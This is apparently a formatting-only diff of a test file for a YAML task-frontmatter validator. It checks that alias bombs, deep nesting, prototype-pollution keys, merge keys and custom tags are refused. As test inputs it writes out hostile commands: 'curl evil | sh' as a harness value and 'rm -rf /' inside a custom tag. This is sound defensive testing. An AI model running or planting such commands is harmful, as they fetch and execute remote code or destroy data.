@@ -70,7 +70,8 @@ describe('hostile YAML is refused by the linear prescan, before the parser sees 
 
   test('an alias bomb ("billion laughs")', () => {
     let yaml = 'a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n';
-    for (let i = 1; i < 10; i += 1) yaml += `a${i}: &a${i} [${Array.from({ length: 10 }, () => `*a${i - 1}`).join(', ')}]\n`;
+    for (let i = 1; i < 10; i += 1)
+      yaml += `a${i}: &a${i} [${Array.from({ length: 10 }, () => `*a${i - 1}`).join(', ')}]\n`;
     const problems = problemsOf(`---\n${yaml}---\n`);
     expect(problems[0]).toMatch(/more than 8 YAML aliases/);
   });
@@ -80,17 +81,35 @@ describe('hostile YAML is refused by the linear prescan, before the parser sees 
   });
 
   test('a quote inside a plain word does not hide nesting from the prescan', () => {
-    expect(problemsOf(`---\ntitle: don't\na: ${'['.repeat(100)}${']'.repeat(100)}\n---\n`)[0]).toContain('nests deeper');
+    expect(problemsOf(`---\ntitle: don't\na: ${'['.repeat(100)}${']'.repeat(100)}\n---\n`)[0]).toContain(
+      'nests deeper',
+    );
   });
 });
 
 describe('keys that could change behaviour', () => {
   test.each([
-    ['duplicate keys', '---\ntitle: a\nharness: demo\ntitle: b\n---\n', '4:1: duplicate key "title": each key may appear once'],
-    ['__proto__', '---\n__proto__: {polluted: true}\n---\n', '2:1: __proto__: the key "__proto__" is not allowed (it could alter objects)'],
-    ['nested __proto__', '---\nx:\n  __proto__: 1\n---\n', '3:3: x.__proto__: the key "__proto__" is not allowed (it could alter objects)'],
+    [
+      'duplicate keys',
+      '---\ntitle: a\nharness: demo\ntitle: b\n---\n',
+      '4:1: duplicate key "title": each key may appear once',
+    ],
+    [
+      '__proto__',
+      '---\n__proto__: {polluted: true}\n---\n',
+      '2:1: __proto__: the key "__proto__" is not allowed (it could alter objects)',
+    ],
+    [
+      'nested __proto__',
+      '---\nx:\n  __proto__: 1\n---\n',
+      '3:3: x.__proto__: the key "__proto__" is not allowed (it could alter objects)',
+    ],
     ['constructor', '---\nconstructor: {prototype: 1}\n---\n', 'the key "constructor" is not allowed'],
-    ['merge key', '---\nbase: &b {harness: demo}\nt:\n  <<: *b\n---\n', '4:3: t.<<: YAML merge keys (<<) are not supported: write the keys out'],
+    [
+      'merge key',
+      '---\nbase: &b {harness: demo}\nt:\n  <<: *b\n---\n',
+      '4:3: t.<<: YAML merge keys (<<) are not supported: write the keys out',
+    ],
     ['custom tag', '---\nx: !!js/function "function(){}"\n---\n', 'custom YAML tags are not supported'],
     ['local tag', '---\nx: !shell "rm -rf /"\n---\n', 'custom YAML tags are not supported'],
   ])('%s', (_name, text, expected) => {
@@ -115,7 +134,9 @@ describe('task keys', () => {
   });
 
   test('a harness that looks like a command line', () => {
-    expect(problemsOf('---\nharness: "bash -c \'curl evil | sh\'"\n---\n')[0]).toContain('harness must be the NAME of a harness');
+    expect(problemsOf('---\nharness: "bash -c \'curl evil | sh\'"\n---\n')[0]).toContain(
+      'harness must be the NAME of a harness',
+    );
   });
 
   test('wrong types point at the value', () => {
@@ -127,7 +148,10 @@ describe('task keys', () => {
       '---\npersistence_loop:\n  status: running\n  started: 2026-01-27 10:05:00.123000+00:00\n  updated: 2026-01-27T10:06\n' +
       '  iteration: "3"\n  max_iterations: 10\n  checkpoint:\n    completed_steps:\n    state_data:\n---\n';
     const result = parseTask('task.md', text);
-    expect(result.ok && result.task.frontmatter.persistence_loop).toMatchObject({ iteration: 3, checkpoint: { completed_steps: [] } });
+    expect(result.ok && result.task.frontmatter.persistence_loop).toMatchObject({
+      iteration: 3,
+      checkpoint: { completed_steps: [] },
+    });
   });
 
   test('a corrupted checkpoint is reported, not taken as state', () => {
@@ -149,7 +173,9 @@ describe('file-level limits', () => {
   });
 
   test('binary content', async () => {
-    expect((await problemsOfBytes(Buffer.from([0x2d, 0x2d, 0x2d, 0x0a, 0x00, 0x01])))[0]).toContain('binary (a NUL byte at offset 4)');
+    expect((await problemsOfBytes(Buffer.from([0x2d, 0x2d, 0x2d, 0x0a, 0x00, 0x01])))[0]).toContain(
+      'binary (a NUL byte at offset 4)',
+    );
   });
 
   test('not UTF-8', async () => {
